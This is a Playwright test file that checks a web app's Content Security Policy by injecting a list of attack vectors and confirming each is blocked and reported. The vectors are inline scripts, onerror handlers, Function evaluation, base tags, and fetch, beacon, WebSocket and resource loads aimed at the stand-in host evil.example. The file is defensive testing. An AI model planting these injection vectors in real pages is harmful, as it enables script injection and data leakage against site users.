import type { Page } from '@playwright/test';
import { contentSecurityPolicy } from '#host/http/security-headers.ts';
import { expect, test } from './shell.ts';

/** Counts violations of the content security policy from the very first script of the page on. */
async function reloadWatched(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const seen: string[] = [];
    Object.defineProperty(globalThis, 'violations', { value: seen });
    document.addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective));
  });
  await page.reload();
  await page.locator('#root > *').first().waitFor();
}

const violations = (page: Page): Promise<string[]> => page.evaluate(() => Reflect.get(globalThis, 'violations'));

test('the program itself breaks no rule of its policy', async ({ page }) => {
  await reloadWatched(page);
  await page.waitForTimeout(500);
  expect(await violations(page)).toEqual([]);
});

test('the policy comes with the page, not only inside it', async ({ page }) => {
  const header = await page.evaluate(async () => (await fetch('/index.html')).headers.get('content-security-policy'));
  expect(header).toBe(contentSecurityPolicy);
});

test('what an attacker would plant is blocked and reported', async ({ page }) => {
  await reloadWatched(page);
  const before = (await violations(page)).length;
  const ran = await page.evaluate(async () => {
    const add = (tag: string, change: (element: HTMLElement) => void): void => {
      const element = document.createElement(tag);
      change(element);
      document.body.append(element);
    };
    const attempts: [string, () => unknown][] = [
      ['inline script', () => add('script', (one) => one.append('globalThis.owned = 1'))],
      ['remote script', () => add('script', (one) => one.setAttribute('src', 'https://evil.example/x.js'))],
      ['handler attribute', () => add('img', (one) => one.setAttribute('onerror', 'globalThis.owned = 1'))],
      ['inline style', () => add('style', (one) => one.append('body { background: red }'))],
      ['style attribute', () => add('p', (one) => one.setAttribute('style', 'color: red'))],
      ['remote picture', () => add('img', (one) => one.setAttribute('src', 'https://evil.example/x.png'))],
      ['remote frame', () => add('iframe', (one) => one.setAttribute('src', 'https://evil.example/'))],
      ['frame of text', () => add('iframe', (one) => one.setAttribute('src', 'data:text/html,x'))],
      ['object', () => add('object', (one) => one.setAttribute('data', 'https://evil.example/x.swf'))],
      ['remote font', () => new FontFace('x', 'url(https://evil.example/x.woff2)').load().catch(() => {})],
      ['remote call', () => fetch('https://evil.example/').catch(() => {})],
      ['beacon', () => navigator.sendBeacon('https://evil.example/', 'x')],
      ['socket', () => new WebSocket('wss://evil.example/')],
      ['worker of text', () => new Worker(URL.createObjectURL(new Blob(['1'])))],
      ['remote sound', () => add('audio', (one) => one.setAttribute('src', 'https://evil.example/x.mp3'))],
      [
        'remote style sheet',
        () => add('link', (one) => Object.assign(one, { rel: 'stylesheet', href: 'https://evil.example/x.css' })),
      ],
      ['base', () => add('base', (one) => one.setAttribute('href', 'https://evil.example/'))],
      ['html sink', () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>')],
      ['evaluation', () => Function('globalThis.owned = 1')()],
    ];
    const done: string[] = [];
    // In a task of its own: what runs inside the test driver's own evaluation may evaluate text whatever the policy says.
    const inOwnTask = (attempt: () => unknown): Promise<void> =>
      new Promise((resolve) => {
        setTimeout(async () => {
          try {
            await attempt();
          } catch {
            // thrown by the policy, and counted by its event
          }
          resolve();
        });
      });
    for (const [name, attempt] of attempts) {
      await inOwnTask(attempt);
      done.push(name);
    }
    await new Promise((resolve) => setTimeout(resolve, 500));
    return { done, owned: 'owned' in globalThis };
  });
  expect(ran.owned).toBe(false);
  const reported = (await violations(page)).slice(before);
  const directives = new Set(reported.map((directive) => directive.replace(/-(elem|attr)$/, '')));
  expect(reported.length).toBeGreaterThanOrEqual(ran.done.length - 2);
  // Scripts and objects are stopped one door earlier, at the trusted types.
  for (const directive of [
    'style-src',
    'img-src',
    'frame-src',
    'font-src',
    'connect-src',
    'base-uri',
    'require-trusted-types-for',
  ]) {
    expect(directives).toContain(directive);
  }
});
